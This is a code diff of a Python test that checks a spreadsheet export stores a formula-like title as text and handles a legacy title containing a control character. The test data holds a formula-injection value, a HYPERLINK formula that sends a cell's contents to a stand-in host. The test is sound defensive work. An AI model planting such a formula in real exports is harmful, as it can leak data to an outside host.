@@ -208,7 +208,7 @@ def test_the_ledger_export_writes_a_formula_title_as_text_and_survives_control_c
     as_user, inspector, campaign, tmp_path
 ):
     formula = '=HYPERLINK("http://x/?"&A1,"点击查看详情")'
-    for title in (formula, "控制\x01字符"):
+    for title in (formula, "控制字符"):
         services.open_problem(
             inspector,
             use="projects",
@@ -218,6 +218,8 @@ def test_the_ledger_export_writes_a_formula_title_as_text_and_survives_control_c
             found_on=date(2025, 5, 6),
             campaign=campaign,
         )
+    # A row from before control characters were refused on input.
+    Problem.objects.filter(title="控制字符").update(title="控制\x01字符")
 
     response = as_user(inspector).get("/problems/export.xlsx")
 
